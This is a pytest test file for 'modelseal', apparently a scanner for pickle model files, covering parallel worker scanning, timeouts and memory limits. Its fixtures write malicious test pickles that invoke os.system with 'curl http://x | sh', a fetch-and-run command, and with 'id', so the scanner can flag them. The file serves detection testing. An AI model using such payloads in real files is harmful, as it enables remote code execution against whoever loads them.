"""`scan --jobs N`: worker processes give the serial report, and a file that kills, starves or stalls its worker
is INCOMPLETE with the reason while every other result stands."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from modelseal.scanning.findings import Status
from modelseal.scanning.pool import Workers, scan_targets
from modelseal.scanning.scanner import ScanOptions, iter_targets
from tests.integration.test_cli import modelseal, no_traceback
from tests.scanning.pickles import call, global_, stop, system

FIXTURES = Path(__file__).parents[1] / "fixtures"


def _slow_pickle() -> bytes:
    """Millions of harmless opcodes: seconds of honest work for the scanner, well inside its own budget."""
    return b"\x80\x02" + b"N0" * 3_000_000 + b"N."


def _memory_hungry_pickle() -> bytes:
    """400 one-MiB strings left on the stack: the scanner keeps every value, so it needs over 400 MiB."""
    chunk = b"x" * (1 << 20)
    return b"\x80\x02(" + (b"X" + len(chunk).to_bytes(4, "little") + chunk) * 400 + b"l."


@pytest.fixture
def mixed_tree(tmp_path: Path) -> Path:
    root = tmp_path / "models"
    shutil.copytree(FIXTURES / "peer-corpora", root / "corpora")
    (root / "evil.pkl").write_bytes(system("curl http://x | sh"))
    (root / "clean.pkl").write_bytes(stop(call(global_("collections", "OrderedDict"))))
    return root


@pytest.mark.parametrize("output_format", ["json", "sarif"])
def test_parallel_report_is_the_serial_report(mixed_tree: Path, output_format: str) -> None:
    serial = modelseal("scan", "--no-cache", "--jobs", "1", "--format", output_format, mixed_tree)
    parallel = modelseal("scan", "--no-cache", "--jobs", "2", "--format", output_format, mixed_tree)
    assert serial.returncode == parallel.returncode == 1
    assert parallel.stdout == serial.stdout
    assert len(json.loads(serial.stdout)["runs" if output_format == "sarif" else "files"]) > 0


def test_a_stalled_worker_is_stopped_and_only_its_file_is_incomplete(tmp_path: Path) -> None:
    shutil.copytree(FIXTURES / "peer-corpora" / "picklescan-data", tmp_path / "picklescan")
    (tmp_path / "evil.pkl").write_bytes(system("curl http://x | sh"))
    (tmp_path / "slow.pkl").write_bytes(_slow_pickle())
    serial = json.loads(modelseal("scan", "--no-cache", "--jobs", "1", "--format", "json", tmp_path).stdout)
    result = modelseal("scan", "--no-cache", "--jobs", "2", "--file-timeout", "1", "--format", "json", tmp_path)
    no_traceback(result)
    parallel = json.loads(result.stdout)
    by_path = {entry["path"]: entry for entry in parallel["files"]}
    slow = next(path for path in by_path if path.endswith("slow.pkl"))
    assert by_path[slow]["status"] == "incomplete"
    assert "took longer than 1 s" in by_path[slow]["notes"][0]
    assert [e for e in parallel["files"] if e["path"] != slow] == [e for e in serial["files"] if e["path"] != slow]
    assert result.returncode == 1  # evil.pkl still fails the scan


def test_a_file_past_the_memory_limit_is_incomplete_and_the_pool_goes_on(tmp_path: Path) -> None:
    (tmp_path / "hungry.pkl").write_bytes(_memory_hungry_pickle())
    (tmp_path / "evil.pkl").write_bytes(system("id"))
    (tmp_path / "clean.pkl").write_bytes(stop(call(global_("collections", "OrderedDict"))))
    targets = list(iter_targets([tmp_path]))
    results = {Path(r.path).name: r for r in scan_targets(targets, ScanOptions(), Workers(2, 60, 128 << 20))}
    assert results["hungry.pkl"].status is Status.INCOMPLETE
    assert "out of memory" in results["hungry.pkl"].notes[0]
    assert results["evil.pkl"].worst is not None and results["evil.pkl"].findings[0].payload == "os.system('id')"
    assert results["clean.pkl"].status is Status.SCANNED and not results["clean.pkl"].findings


def test_a_worker_killed_mid_file_makes_that_file_incomplete(tmp_path: Path) -> None:
    """A worker that dies (here: stopped for time, SIGKILL) is replaced; the files after it are still scanned."""
    for index in range(3):
        (tmp_path / f"slow{index}.pkl").write_bytes(_slow_pickle())
    (tmp_path / "a-evil.pkl").write_bytes(system("id"))
    targets = list(iter_targets([tmp_path]))
    results = scan_targets(targets, ScanOptions(), Workers(2, 0.5, 1 << 30))
    assert [Path(r.path).name for r in results] == [Path(p).name for p, _ in targets]  # the input order
    statuses = {Path(r.path).name: r.status for r in results}
    assert statuses == {"a-evil.pkl": Status.SCANNED, **{f"slow{i}.pkl": Status.INCOMPLETE for i in range(3)}}


def test_jobs_is_validated() -> None:
    result = modelseal("scan", "--jobs", "0", ".")
    assert result.returncode == 2
    assert "--jobs" in result.stderr


def test_workers_kept_for_reuse_serve_the_next_call_and_stop_at_exit(tmp_path: Path) -> None:
    from modelseal.scanning import pool

    pool._stop_spares()  # workers other tests of this process left for reuse
    (tmp_path / "evil.pkl").write_bytes(system("id"))
    targets = list(iter_targets([tmp_path]))
    first = pool.scan_in_workers(targets, ScanOptions(), Workers(1), reuse=True)
    [kept] = [w for idle in pool._SPARE.values() for w in idle]
    second = pool.scan_in_workers(targets, ScanOptions(), Workers(1), reuse=True)
    assert first == second and first[0].findings[0].payload == "os.system('id')"
    assert [w for idle in pool._SPARE.values() for w in idle] == [kept]  # the same process answered again
    pool._stop_spares()
    assert kept.process.poll() is not None and not pool._SPARE
